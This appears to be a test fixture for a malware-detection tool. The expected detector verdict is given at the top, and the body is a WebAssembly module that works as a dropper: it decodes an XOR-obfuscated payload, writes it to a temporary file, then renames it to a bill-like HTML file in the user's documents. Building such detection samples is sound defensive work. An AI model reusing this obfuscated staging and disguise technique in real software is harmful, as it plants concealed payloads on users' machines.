;; RUN: spoor run %
;; WHAT: Writes a page that makes a file of its own and saves it, under another name first.
;; EXPECT: verdict=SUSPICIOUS|MALICIOUS rule=load-code/page family=loader status=exited file=/home/user/documents/bill.html:created
(module
  (import "wasi_snapshot_preview1" "path_open" (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_rename" (func $path_rename (param i32 i32 i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_close" (func $fd_close (param i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 1024) "tmp/part")
  (data (i32.const 1056) "home/user/documents/bill.html")
  (data (i32.const 2048) "\0d\50\4b\2b\21\6a\67\00\06\14\0e\40\b9\ff\f0\e8\c8\d8\db\88\cb\a5\b9\f2\bb\dd\89\8b\82\dc\41\66\7e\7a\37\7d\4c\40\54\20\61\77\34\33\33\04\29\39\c3\fc\d5\c7\a0\99\8c\9b\e4\e9\fc\b8\b4\ae\c3\8b\cc\9c\90\65\78\79\7e\4c\5d\1e\54\4c\20\2d\27\3f\24\04\0a\1b\18\ea\ff\ba\be\c1\80\87\8e\dd\ed\a2\a3\bd\b9\db\b8\a6\b7\2c\6a\62\72\7f\51\49\7c\58\2b\2d\2c\22\08\36\27\5a\1b\a9\bc\ef\bb\f8\cc\dd\df\d4\d0\a7\a9\e9\fc\80\80\9c\9b\d0\60\74\76\3d\1a\49\01\55\51\2d\28\39\71\49\5c\52\5a\0f\e0\f8\f8\e8\eb\98\91\9b\d9\ad\ad\a9\e9\e2\ca\84\87\97\6d\36")
  (func $decode (param $at i32) (param $len i32) (local $i i32)
    (loop $byte
      (i32.store8 (i32.add (local.get $at) (local.get $i))
        (i32.xor
          (i32.load8_u (i32.add (local.get $at) (local.get $i)))
          (i32.add (i32.const 0x31) (i32.mul (local.get $i) (i32.const 7)))))
      (br_if $byte
        (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (local.get $len)))))
  (func $open (param $path i32) (param $len i32) (param $flags i32) (result i32)
    (drop (call $path_open (i32.const 3) (i32.const 1) (local.get $path) (local.get $len) (local.get $flags)
      (i64.const 0x46) (i64.const 0) (i32.const 0) (i32.const 12)))
    (i32.load (i32.const 12)))
  (func (export "_start") (local $fd i32) (local $i i32)
    (call $decode (i32.const 2048) (i32.const 178))
    (local.set $fd (call $open (i32.const 1024) (i32.const 8) (i32.const 1)))
    (i32.store (i32.const 4) (i32.const 1))
    (loop $byte
      (i32.store (i32.const 0) (i32.add (i32.const 2048) (local.get $i)))
      (drop (call $fd_write (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 8)))
      (br_if $byte (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 178))))
    (drop (call $fd_close (local.get $fd)))
    (drop (call $path_rename (i32.const 3) (i32.const 1024) (i32.const 8)
      (i32.const 3) (i32.const 1056) (i32.const 29)))))
